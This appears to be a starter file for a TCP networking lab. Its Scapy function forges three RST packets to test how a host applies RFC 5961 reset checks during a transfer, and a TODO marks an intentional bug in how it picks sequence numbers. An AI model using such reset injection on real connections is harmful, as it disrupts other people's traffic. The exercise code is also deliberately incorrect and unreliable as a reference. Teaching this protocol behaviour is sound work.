"""tcp_reset_attack: forge TCP resets with Scapy against a running transfer (RFC 5961 §3.2).

You sit on h2's link. ``attack(sniffed)`` gets the last packets seen there
(raw IP packets, both directions: h1 -> h2 data and h2 -> h1 ACKs) while h1
is sending to h2. Return three forged packets from h2 to h1, in this order:

1. a RST whose sequence number is far outside h1's receive window,
2. a RST inside h1's receive window but not exactly where h1 expects the next byte,
3. a RST exactly at the next sequence number h1 expects.

They are injected at h2, 0.1 s apart. Then run:

    tcplab exercise check tcp_reset_attack

and look at how h1 reacted to each in the trace (``--json`` shows the details).
"""

from __future__ import annotations

from scapy.layers.inet import IP, TCP


def attack(sniffed: list[bytes]) -> list:
    packets = [IP(raw) for raw in sniffed]
    data = [p for p in packets if TCP in p and len(p[TCP].payload) > 0]  # h1 -> h2
    last = data[-1]
    h1, h2 = last[IP].src, last[IP].dst
    sport, dport = last[TCP].dport, last[TCP].sport  # from h2 back to h1
    # TODO: which sequence space does a RST from h2 to h1 have to hit? This takes h1's own.
    base = last[TCP].seq
    forged = []
    for seq in (base + (1 << 31), base + 1000, base):
        forged.append(IP(src=h2, dst=h1) / TCP(sport=sport, dport=dport, flags="R", seq=seq % (1 << 32)))
    return forged
